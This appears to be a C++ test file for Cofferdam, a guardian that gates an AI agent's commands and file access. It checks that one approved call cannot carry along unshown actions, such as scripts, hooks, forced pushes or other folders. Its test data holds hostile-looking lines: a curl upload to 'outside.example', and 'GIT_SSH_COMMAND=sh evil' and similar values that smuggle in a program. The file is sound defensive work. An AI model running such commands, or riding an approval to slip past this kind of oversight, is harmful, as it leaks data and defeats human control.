// SPDX-FileCopyrightText: Cofferdam contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// What rides on an approved call under the rules that are shipped, with a person who says yes to the call and no to everything else: the
// words that were shown, and nothing that only descends from them.

#include "core/inspect/gate/GateCall.h"
#include "core/inspect/tool/Example.h"
#include "core/inspect/tool/ToolCall.h"
#include "core/policy/Policy.h"
#include "tests/core/guardian/Court.h"
#include "tests/support/Test.h"
#include "tests/vm/guest/OpenClawWords.h"

#include <QJsonDocument>
#include <QJsonObject>

using namespace cofferdam;
using namespace cofferdam::test;

namespace {

const auto kHomeFolder = u"/home/agent"_s;
const auto kWorkFolder = u"/home/agent/workspace"_s;

/// A program as the exec gate sees it.
struct Run {
    QString path;
    QStringList arguments; ///< Without the zeroth.
    QString directory = kWorkFolder;
    QStringList environment{u"HOME=/home/agent"_s, u"PATH=/usr/bin:/bin"_s};
    bool agentWritten = false;
};

class Approved
{
public:
    Approved()
    {
        static const auto loaded =
            Policy::loadFolder(Policy::kBuiltInFolder.toString(), u"balanced"_s, [](Action &action) { inspectExample(action, kHomeFolder); });
        if (!loaded)
            qFatal("%s", qPrintable(loaded.error().message.english()));
        court.rules = [](const Action &action) { return (*loaded)->evaluate(action); };
        court.taker.immediate = true;
    }

    /// True when it was asked, and done after a yes.
    bool approveCall(const QString &tool, const QJsonObject &parameters)
    {
        m_call = court.action(tool);
        m_call.directory = kWorkFolder;
        m_call.raw = QJsonDocument(parameters).toJson(QJsonDocument::Compact);
        inspectToolCall(m_call, kHomeFolder);
        const auto answer = court.review(m_call);
        if (!QTest::qWaitFor([this] { return court.guardian->questions().size() == 1; }))
            return false;
        const auto resolved = court.guardian->resolve(court.guardian->questions().first().id, true, {});
        return resolved && QTest::qWaitFor([&] { return answer->told == 1; }) && answer->decision->verdict == Verdict::Allow;
    }
    bool approve(const QString &command, QJsonObject more = {})
    {
        more.insert(u"command"_s, command);
        return approveCall(u"exec"_s, more);
    }
    /// OpenClaw begins it: both shells. True when neither is asked.
    bool begin(const QString &command, const Run &how = {})
    {
        Run bash = how;
        bash.path = u"/usr/bin/bash"_s;
        bash.arguments = {u"--noprofile"_s, u"--norc"_s, u"-c"_s, QLatin1StringView(kPathPrepend) + command};
        Run sh = how;
        sh.path = u"/usr/bin/dash"_s;
        sh.arguments = QStringList{u"-c"_s, QLatin1StringView(kOomScore), u"/bin/bash"_s} + bash.arguments;
        return passes(sh) && passes(bash);
    }
    bool passes(const Run &run)
    {
        api::ExecAsked asked;
        asked.set_path(run.path.toStdString());
        asked.set_requested(run.path.toStdString());
        asked.add_arguments(run.path.section(u'/', -1).toStdString());
        for (const auto &argument : run.arguments)
            asked.add_arguments(argument.toStdString());
        for (const auto &variable : run.environment)
            asked.add_environment(variable.toStdString());
        asked.set_directory(run.directory.toStdString());
        asked.add_files()->set_path(run.path.toStdString());
        asked.mutable_files(0)->set_agent_writable(run.agentWritten);
        return passes(asked);
    }
    bool passes(api::FileAsked::Operation operation, const QString &path, const QString &area, bool own = false)
    {
        api::FileAsked asked;
        asked.set_operation(operation);
        asked.set_path(path.toStdString());
        asked.set_area(area.toStdString());
        asked.set_program("/usr/bin/cat");
        Action part;
        inspectGate(part, asked, kHomeFolder);
        part.own = own;
        return passes(std::move(part), !own);
    }

    Court court;

private:
    bool passes(const api::ExecAsked &asked)
    {
        Action part;
        inspectGate(part, asked, kHomeFolder);
        return passes(std::move(part), true);
    }
    /// A question is answered with no.
    bool passes(Action part, bool ofCall)
    {
        part.agent = court.agent;
        part.epoch = Epoch{1};
        if (ofCall) {
            part.toolCallId = m_call.toolCallId;
            part.runId = m_call.runId;
        }
        part.mayWait = ofCall;
        const auto answer = court.review(part);
        const auto &guardian = *court.guardian;
        if (!QTest::qWaitFor([&] { return answer->told == 1 || !guardian.questions().isEmpty(); }))
            return false;
        if (answer->told == 0)
            static_cast<void>(court.guardian->resolve(guardian.questions().first().id, false, {}));
        return QTest::qWaitFor([&] { return answer->told == 1; }) && answer->decision->verdict == Verdict::Allow;
    }

    Action m_call;
};

const Run kPush{.path = u"/usr/bin/git"_s, .arguments = {u"push"_s, u"origin"_s, u"main"_s}};

} // namespace

class tst_ApprovedParts : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { m_all = std::make_unique<Approved>(); }
    void cleanup() { m_all.reset(); }

    void whatWasShownIsNotAskedTwice_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("path");
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("folder");
        const auto push = kPush.arguments;
        QTest::newRow("a push") << u"git push origin main"_s << kPush.path << push << kWorkFolder;
        QTest::newRow("in a folder of its own") << u"cd app && git push origin main"_s << kPush.path << push << QString(kWorkFolder + u"/app"_s);
        QTest::newRow("beside a script") << u"git push origin main; ./x.sh"_s << kPush.path << push << kWorkFolder;
        QTest::newRow("files of a pattern") << u"chmod 777 *.sh"_s << u"/usr/bin/chmod"_s << QStringList{u"777"_s, u"a.sh"_s, u"b.sh"_s} << kWorkFolder;
    }
    void whatWasShownIsNotAskedTwice()
    {
        QFETCH(QString, command);
        QFETCH(QString, path);
        QFETCH(QStringList, arguments);
        QFETCH(QString, folder);
        const Run run{.path = path, .arguments = arguments, .directory = folder};
        QVERIFY2(!m_all->passes(run), "it is no question at all");
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(m_all->passes(run));
    }

    /// As OpenClaw's shells have it: what they take away is gone for the program, and what means something stands in front of each.
    void theShellsOwnVariablesAreNoOther()
    {
        const auto command = u"git push origin main"_s;
        QVERIFY(m_all->approve(command));
        auto push = kPush;
        push.environment += {u"SHELL=/bin/bash"_s, u"TARGET=x"_s};
        auto shells = push;
        shells.environment += u"OPENCLAW_PREPEND_PATH=/usr/local/bin"_s;
        QVERIFY(m_all->begin(command, shells));
        auto other = push;
        other.environment.last() = u"TARGET=y"_s;
        QVERIFY(!m_all->passes(other));
        QVERIFY(m_all->passes(push));
    }

    void whatWasNotShownIsAsked_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("path");
        QTest::addColumn<QStringList>("arguments");
        const auto push = u"git push origin main; ./x.sh"_s;
        const auto git = kPush.path;
        const auto chmod = u"/usr/bin/chmod"_s;
        const auto curl = u"/usr/bin/curl"_s;
        QTest::newRow("another branch") << push << git << QStringList{u"push"_s, u"origin"_s, u"secret"_s};
        QTest::newRow("another branch, by a hook") << u"git push origin main"_s << git << QStringList{u"push"_s, u"origin"_s, u"secret"_s};
        QTest::newRow("forced") << push << git << QStringList{u"push"_s, u"--force"_s, u"origin"_s, u"main"_s};
        QTest::newRow("other data to the same host") << u"curl -d @report https://outside.example/up && ./x.sh"_s << curl
                                                     << QStringList{u"-d"_s, u"@other"_s, u"https://outside.example/up"_s};
        QTest::newRow("words to the same host") << u"curl -d x=1 https://outside.example/up && ./x.sh"_s << curl
                                                << QStringList{u"-d"_s, u"a secret"_s, u"https://outside.example/up"_s};
        QTest::newRow("no file of the pattern") << u"chmod 777 *.sh"_s << chmod << QStringList{u"777"_s, u"src/main.c"_s};
        QTest::newRow("deeper than the pattern") << u"chmod 777 *.sh"_s << chmod << QStringList{u"777"_s, u"src/a.sh"_s};
        QTest::newRow("one of the pattern, by a script") << u"chmod 777 *.sh && ./ride.sh"_s << chmod << QStringList{u"777"_s, u"a.sh"_s};
        QTest::newRow("one of the folder, by a script")
            << u"chmod 777 *.sh && ./ride.sh"_s << chmod << QStringList{u"777"_s, u"/home/agent/workspace/src/main.c"_s};
        QTest::newRow("what a variable stands for") << u"chmod 777 $x"_s << chmod << QStringList{u"777"_s, u"a.sh"_s};
    }
    void whatWasNotShownIsAsked()
    {
        QFETCH(QString, command);
        QFETCH(QString, path);
        QFETCH(QStringList, arguments);
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(!m_all->passes({.path = path, .arguments = arguments}));
    }

    void eachWordCountsOnce()
    {
        const auto command = u"git push origin main; ./x.sh"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(m_all->passes(kPush));
        QVERIFY2(!m_all->passes(kPush), "the script may push as often as it likes");
        QVERIFY2(!m_all->begin(command), "the script may begin it all again");
    }

    void twiceShownIsTwice()
    {
        const auto command = u"git push origin main; sleep 5; git push origin main"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(m_all->passes(kPush) && m_all->passes(kPush));
        QVERIFY(!m_all->passes(kPush));
    }

    void anotherFolderIsAnotherAct()
    {
        const auto command = u"git push origin main"_s;
        QVERIFY(m_all->approve(command));
        const Run elsewhere{.path = {}, .arguments = {}, .directory = u"/home/agent/another"_s};
        QVERIFY2(!m_all->begin(command, elsewhere), "the same words in another folder");
        QVERIFY(m_all->begin(command));
        auto push = kPush;
        push.directory = elsewhere.directory;
        QVERIFY(!m_all->passes(push));
        QVERIFY(m_all->passes(kPush));
    }

    void theFolderOfTheCallIsPartOfIt()
    {
        const auto command = u"git push origin main"_s;
        QVERIFY(m_all->approve(command, {{u"workdir"_s, u"/home/agent/workspace/app"_s}}));
        QVERIFY(!m_all->begin(command));
        const Run there{.path = {}, .arguments = {}, .directory = u"/home/agent/workspace/app"_s};
        QVERIFY(m_all->begin(command, there));
        QVERIFY(!m_all->passes(kPush));
    }

    void anotherEnvironmentIsAnotherAct_data()
    {
        QTest::addColumn<QString>("variable");
        QTest::newRow("a program") << u"GIT_SSH_COMMAND=sh evil"_s;
        QTest::newRow("a setting") << u"GIT_CONFIG_GLOBAL=/tmp/evil"_s;
        QTest::newRow("a home") << u"HOME=/tmp/evil"_s;
    }
    void anotherEnvironmentIsAnotherAct()
    {
        QFETCH(QString, variable);
        const auto command = u"git push origin main; ./x.sh"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        auto push = kPush;
        push.environment = QStringList{variable, u"PATH=/usr/bin:/bin"_s};
        QVERIFY(!m_all->passes(push));
        push.environment = QStringList{u"HOME=/home/agent"_s, u"PATH=/home/agent/bin"_s}; // which git it is has been seen
        QVERIFY(m_all->passes(push));
    }

    void aProgramOfTheAgentsIsNotTheOneThatWasNamed()
    {
        const auto command = u"git push origin main"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        auto push = kPush;
        push.path = u"/usr/bin/curl"_s;
        QVERIFY(m_all->passes(push)); // "curl push origin main": the rules allow it, whoever asks
        push.path = u"/home/agent/workspace/git"_s;
        push.agentWritten = true;
        static_cast<void>(m_all->passes(push));
        QVERIFY2(m_all->passes(kPush), "it took the place of the one that was named");
    }

    // A hook, or anything else that an approved command starts.
    void anotherProjectIsNotReadUnasked()
    {
        const auto command = u"git push origin main; ./x.sh"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(!m_all->passes(api::FileAsked::READ, u"/home/agent/another/src/main.py"_s, u"other-project"_s));
        QVERIFY(m_all->passes(api::FileAsked::READ, u"/home/agent/workspace/src/main.py"_s, u"workspace"_s));
    }

    void aProjectWhoseReadingWasShownIsNotAskedAgain()
    {
        const auto command = u"cat /home/agent/another/src/main.py; git push origin main"_s;
        QVERIFY(m_all->approve(command));
        QVERIFY(m_all->begin(command));
        QVERIFY(m_all->passes(api::FileAsked::READ, u"/home/agent/another/src/main.py"_s, u"other-project"_s));
        QVERIFY(!m_all->passes(api::FileAsked::READ, u"/home/agent/another/src/other.py"_s, u"other-project"_s));
    }

    /// OpenClaw's own file tools act in its own process, and nobody can be asked then.
    void anApprovedFileIsWrittenAndNoOther()
    {
        QVERIFY(m_all->approveCall(u"write"_s, {{u"path"_s, u"/home/agent/.bashrc"_s}, {u"content"_s, u"alias a=b"_s}}));
        QVERIFY(m_all->passes(api::FileAsked::WRITE, u"/home/agent/.bashrc"_s, u"startup"_s, true));
        QVERIFY(!m_all->passes(api::FileAsked::WRITE, u"/home/agent/.profile"_s, u"startup"_s, true));
        QVERIFY(!m_all->passes(api::FileAsked::READ, u"/home/agent/another/src/main.py"_s, u"other-project"_s, true));
        for (int i = 0; i < 100; ++i)
            static_cast<void>(m_all->passes(api::FileAsked::WRITE, u"/home/agent/.bashrc"_s, u"startup"_s, true));
        QVERIFY(!m_all->passes(api::FileAsked::WRITE, u"/home/agent/.bashrc"_s, u"startup"_s, true));
    }

private:
    std::unique_ptr<Approved> m_all;
};

COFFERDAM_TEST(tst_ApprovedParts)
#include "tst_approvedparts.moc"
